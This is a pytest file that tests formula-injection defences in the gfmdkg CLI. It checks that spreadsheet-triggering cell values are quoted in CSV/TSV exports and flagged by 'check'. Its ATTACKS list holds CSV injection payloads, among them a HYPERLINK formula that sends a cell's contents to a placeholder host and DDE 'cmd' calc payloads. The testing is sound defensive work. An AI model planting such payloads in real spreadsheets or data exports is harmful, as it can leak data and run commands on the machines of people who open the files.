"""CSV formula injection: cells a spreadsheet would run (OWASP: a leading =, +, -, @, tab or carriage return) are
written with a leading ' in every CSV/TSV gfmdkg writes, plain numbers stay numbers, and `check` warns by row and
column. Through the real CLI: check, add, export -f csv (every table, the PfP one included), query -f csv/tsv."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from gfmdkg.spreadsheet import TRIGGERS, is_formula, neutralise

ATTACKS = ['=HYPERLINK("http://host/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\tTabbed =1+1", "\r=1+1 after a return"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formulas_get_a_leading_quote(value):
    assert is_formula(value) and neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "+3.5", "-1.2e3", "0.5", "-.5", "Ghana", "", "'=already quoted", "a=b",
                                   "https://example.org/?q=-1"])
def test_numbers_and_text_stay_as_they_are(value):
    assert not is_formula(value) and neutralise(value) == value


def run(project: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "gfmdkg", "--project", str(project), *args], capture_output=True,
                          text=True, timeout=300)


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]


def unsafe(values: list[str]) -> list[str]:
    return [c for c in values if is_formula(c)]


def test_formula_cells_are_warned_about_then_neutralised_everywhere(project_copy, tmp_path):
    contribution = tmp_path / "formulas.csv"
    with contribution.open("w", newline="", encoding="utf-8") as out:
        w = csv.writer(out)
        w.writerow(["title", "summary", "countries", "source", "thematic areas", "web links"])
        w.writerow([ATTACKS[0], "A summary long enough to be a summary for this test.", "Ghana", "bp:p10",
                    "Diasporas", ""])
        w.writerow([ATTACKS[1], ATTACKS[3] + " and words to make the summary long enough.", "Ghana", "bp:p10",
                    "Diasporas", ""])
        w.writerow(["An honest title", "A summary long enough to be a summary for this test too.", "Ghana",
                    "bp:p11", "Diasporas", ""])
    checked = run(project_copy, "check", str(contribution))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    report = " ".join(checked.stdout.split())
    for row, column, char in ((2, "title", "="), (3, "title", "@"), (3, "summary", "-")):
        block = report.split(f"{contribution}, row {row}:", 1)[1].split(f"{contribution}, row", 1)[0]
        assert (f"warning column '{column}': the value begins with '{char}': a spreadsheet would run it as a "
                "formula") in block, block
    assert "begins with" not in report.split(f"{contribution}, row 4:", 1)[1]
    added = run(project_copy, "add", str(contribution))
    assert added.returncode == 0, added.stdout + added.stderr

    tables = tmp_path / "tables"
    exported = run(project_copy, "export", "-f", "csv", "-o", str(tables))
    assert exported.returncode == 0, exported.stderr
    for name in ("practices", "pfp"):
        values = cells((tables / f"{name}.csv").read_text(encoding="utf-8"))
        assert "'" + ATTACKS[0] in values and "'" + ATTACKS[1] in values, name
        assert unsafe(values) == [], name
    all_cells = [c for f in tables.glob("*.csv") for c in cells(f.read_text(encoding="utf-8"))]
    assert unsafe(all_cells) == []

    query = tmp_path / "titles.rq"
    query.write_text("PREFIX dcterms: <http://purl.org/dc/terms/>\n"
                     "SELECT ?title ?n WHERE { ?p dcterms:title ?title BIND(-2 AS ?n) }\n", encoding="utf-8")
    as_csv = run(project_copy, "query", str(query), "-f", "csv")
    assert as_csv.returncode == 0, as_csv.stderr
    values = cells(as_csv.stdout)
    assert "'" + ATTACKS[0] in values and "'" + ATTACKS[1] in values and "-2" in values
    assert unsafe(values) == []
    as_tsv = run(project_copy, "query", str(query), "-f", "tsv")
    assert as_tsv.returncode == 0, as_tsv.stderr
    fields = [f for line in as_tsv.stdout.splitlines()[1:] for f in line.split("\t")]
    titles = [f[1:f.rindex('"')] for f in fields if f.startswith('"') and "@" in f[f.rindex('"'):]]
    assert any(t.startswith("'=HYPERLINK(") for t in titles) and any(t.startswith("'@SUM(1+1)") for t in titles)
    assert not [t for t in titles if t.startswith(TRIGGERS)]
    assert '"-2"^^<http://www.w3.org/2001/XMLSchema#integer>' in fields


def test_check_warns_about_formula_values_in_rdf_with_the_line(project_copy, tmp_path):
    text = (Path(__file__).parent / "fixtures" / "contrib" / "practice.ttl").read_text(encoding="utf-8")
    f = tmp_path / "formula.ttl"
    f.write_text(text.replace('dcterms:title "Ghana nurse tutors exchange"@en', 'dcterms:title "=1+cmd|x"@en'),
                 encoding="utf-8")
    line = next(n for n, t in enumerate(f.read_text(encoding="utf-8").splitlines(), 1) if '"=1+cmd|x"' in t)
    done = run(project_copy, "check", str(f))
    assert done.returncode == 0, done.stdout + done.stderr
    assert (f"warning line {line} dcterms:title: the value of dcterms:title begins with '=': a spreadsheet would run "
            "it as a formula") in " ".join(done.stdout.split())
